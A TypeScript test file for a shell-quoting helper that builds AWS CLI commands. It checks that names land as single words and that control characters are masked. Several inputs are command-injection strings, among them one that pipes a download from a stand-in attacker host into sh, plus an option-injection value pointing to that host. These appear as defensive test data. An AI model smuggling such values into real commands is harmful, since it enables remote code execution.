import { execFileSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { printable, shell } from '../../lib/posture/shell';
import { eachOf } from '../each-of';
import { runs } from '../properties/runs';

const ROOT = join(__dirname, '../..');

/** The words that a shell makes of a command, as the program would get them. */
function wordsOf(command: string, program = 'sh'): string[] {
  const script = `aws() { printf '%s\\0' "$@"; }; ${command}`;
  return execFileSync(program, ['-c', script], { encoding: 'utf8', env: {} }).split('\0').slice(0, -1);
}

const ATTACK = 'AccountBaseline-!;curl https://evil.example|sh;';

eachOf([
  ATTACK,
  '$(touch /tmp/x)',
  '`id`',
  "it's",
  "'; aws iam create-user; '",
  'a b',
  '*',
  '~',
  '#',
  '!!',
  '\\',
  '"',
  '&&',
  '>x',
  '',
])('a name that a shell could read otherwise is one word of the command', (name) => {
  expect(wordsOf(shell`aws iam list-access-keys --user-name ${name} --no-paginate`)).toEqual([
    ...['iam', 'list-access-keys', '--user-name', name, '--no-paginate'],
  ]);
});

test('whatever the name is, it is one word of the command, and stays on its line', () => {
  fc.assert(
    // Many names in one shell, because starting it takes longer than the words.
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 20 }), (names) => {
      const commands = names.map((name) => shell`aws ${name}`);
      expect(commands).toEqual(commands.map(printable));
      expect(wordsOf(commands.join('\n'))).toEqual(names.map(printable));
    }),
    runs(10),
  );
});

test('a name that begins with a hyphen is not an option', () => {
  expect(
    shell`aws cloudwatch enable-alarm-actions --alarm-names ${'--endpoint-url=https://evil.example'}`,
  ).toBe('aws cloudwatch enable-alarm-actions --alarm-names=--endpoint-url=https://evil.example');
});

test.each(['alice', 'alice@example.com', 'arn:aws:iam::123456789012:role/a_b', 'us-east-1', 'a+b=c,d%/'])(
  'an ordinary name such as %s has no quotes',
  (name) => {
    expect(shell`aws x ${name}`).toBe(`aws x ${name}`);
  },
);

test.each([
  ['red\u001b[31m', 'red?[31m'],
  ['a\nb\rc', 'a?b?c'],
  ['\u202egnp.exe\u2066', '?gnp.exe?'],
  ['zero\u200bwidth\ufeff', 'zero?width?'],
  ['filler\u3164', 'filler?'],
  ['line\u2028paragraph\u2029', 'line?paragraph?'],
  ['half \ud83d', 'half ?'],
  ['Ärger 鍵 🔑', 'Ärger 鍵 🔑'],
])('%j is printed as %j', (text, printed) => {
  expect(printable(text)).toBe(printed);
});

test('every command with a name in it is quoted', () => {
  const sources = readdirSync(join(ROOT, 'lib/posture'), { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.ts') && file !== 'shell.ts')
    .map((file) => readFileSync(join(ROOT, 'lib/posture', file), 'utf8'));
  const commands = sources.flatMap((source) => source.match(/.{10}`(?:aws|npx) [^`]*\$\{[^`]*`/g) ?? []);
  const unquoted = commands.filter((command) => !/shell`/.test(command));
  // The options of the password policy are words and numbers. The others are constants, within a text.
  expect(unquoted).toEqual([
    expect.stringContaining("`aws iam update-account-password-policy ${options.join(' ')}`"),
    expect.stringContaining('npx aws-account-baseline confirm ${CHECK}'),
  ]);
  expect(sources.join('').match(/shell`aws /g)?.length).toBeGreaterThan(15);
});
